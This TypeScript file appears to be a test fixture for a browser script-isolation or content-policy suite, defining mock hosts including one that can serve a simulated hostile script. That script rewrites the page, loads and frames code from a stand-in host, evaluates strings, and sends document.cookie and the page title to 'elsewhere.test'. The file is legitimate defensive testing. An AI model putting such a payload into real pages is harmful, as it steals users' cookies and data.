import type { RequestListener } from "node:http";
import { harmless } from "../../../support/measured.mjs";
import { allowAll } from "./services";

/** Takes the connection and never says a word. */
export const hanging: RequestListener = () => {};

export const failing: RequestListener = (_request, response) => response.writeHead(500).end("no script");

/** Leaves a mark named like the file. */
export const harmlessHost: RequestListener = (request, response) => {
  if (allowAll(request, response)) return;
  const mark = /^\/(\w+)\.js$/.exec(request.url ?? "")?.[1] ?? "unknown";
  response.writeHead(200, { "Content-Type": "text/javascript" }).end(harmless(mark));
};

/**
 * What an allowed script could try after an attack: replace the page, load other scripts, evaluate strings, send data; and
 * then it throws.
 */
const hostileScript = `
document.documentElement.setAttribute("data-hostile", "ran");
var tried = { fetched: "", beacon: "", framed: "", evaluated: "" };
window.tried = tried;
document.write("<h1>Gone</h1>");
setTimeout(function () { document.write("<h1>Gone</h1>"); document.close(); }, 0);
var script = document.createElement("script");
script.src = "http://elsewhere.test/more.js";
document.head.append(script);
var inline = document.createElement("script");
inline.textContent = "document.documentElement.setAttribute('data-inline', '')";
document.head.append(inline);
var frame = document.createElement("iframe");
frame.src = "http://elsewhere.test/";
document.body.append(frame);
new Image().src = "http://elsewhere.test/?stolen=" + document.title;
fetch("http://elsewhere.test/", { method: "POST", body: document.cookie }).then(
  function () { tried.fetched = "yes"; }, function () { tried.fetched = "no"; });
try { tried.evaluated = eval("'yes'"); } catch (error) { tried.evaluated = "no"; }
document.body.insertAdjacentHTML("beforeend", "<p onclick='stolen = 1' style='display:none'></p>");
throw new Error("hostile");
`;

/** A host whose script is harmless until someone takes it over. */
export function createHostile(): { readonly respond: RequestListener; turn: "good" | "bad" } {
  const host: ReturnType<typeof createHostile> = {
    turn: "good",
    respond: (_request, response) => {
      const script = host.turn === "bad" ? hostileScript : harmless("experiment");
      response.writeHead(200, { "Content-Type": "text/javascript" }).end(script);
    },
  };
  return host;
}

/** A host that isn't configured: no request must reach it. */
export function createElsewhere(): { readonly respond: RequestListener; readonly visits: string[] } {
  const visits: string[] = [];
  return {
    visits,
    respond: (request, response) => {
      visits.push(request.url ?? "");
      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("");
    },
  };
}
